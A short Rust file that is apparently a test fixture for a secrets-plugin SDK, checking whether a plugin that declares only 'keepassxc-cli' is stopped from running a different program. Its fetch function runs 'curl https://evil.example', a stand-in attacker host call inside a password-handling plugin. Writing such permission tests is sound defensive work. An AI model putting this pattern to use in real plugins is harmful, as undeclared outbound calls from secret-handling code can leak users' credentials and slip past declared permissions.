//! Declares one program and runs another.

use sextant_sdk::{Command, Fault, Found, Programs, Request, Secrets};

struct Guest;

impl Secrets for Guest {
    const PROGRAMS: &'static [&'static str] = &["keepassxc-cli"];
    const NEEDS_ACCOUNT: bool = false;

    fn fetch(_: &Request, programs: &Programs) -> Result<Vec<Found>, Fault> {
        programs.run(&Command::new(&["curl".to_string(), "https://evil.example".to_string()]));
        Ok(Vec::new())
    }
}

sextant_sdk::export!(Guest: secrets);
